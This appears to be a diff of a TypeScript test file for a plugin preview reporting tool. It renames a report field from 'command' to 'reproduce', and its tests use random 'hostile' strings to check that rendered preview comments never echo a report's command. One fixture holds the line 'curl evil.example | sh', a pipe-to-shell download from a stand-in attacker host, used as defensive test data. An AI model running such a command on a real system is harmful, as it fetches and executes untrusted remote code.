@@ -33,7 +33,7 @@ function reportOf(plugin: string, more: Partial<PreviewReport> = {}): PreviewRep
     exposes: [{ name: 'greet', kind: 'invoke', resolved: true }],
     probes: [{ name: '/healthz', passed: true, found: '200' }],
     log: 'ready\n',
-    command: 'coolbox-plugin-action preview greeter',
+    reproduce: 'coolbox-plugin-action preview greeter',
     editors: [],
     ...more,
   };
@@ -198,7 +198,7 @@ describe('whatever a report of a preview says', () => {
     exposes: fc.array(fc.record({ name: hostile, kind: hostile, resolved: fc.boolean() }), { maxLength: 4 }),
     probes: fc.array(fc.record({ name: hostile, passed: fc.boolean(), found: hostile }), { maxLength: 3 }),
     log: hostile,
-    command: hostile,
+    reproduce: hostile,
     editors: fc.array(fc.record({ name: hostile, address: hostile }), { maxLength: 1 }),
   }) as fc.Arbitrary<Partial<PreviewReport>>;
 
@@ -257,7 +257,7 @@ describe('the comment on previews', () => {
   });
 
   test('names the system only where there are several, and never a command of the report', () => {
-    const one = previews([reportOf('clock', { command: 'curl evil.example | sh' })]);
+    const one = previews([reportOf('clock', { reproduce: 'curl evil.example | sh' })]);
     const two = previews([reportOf('clock'), reportOf('clock', { system: 'macos15-arm64' })]);
 
     expect([one.includes('| system'), two.includes('| system')]).toEqual([false, true]);
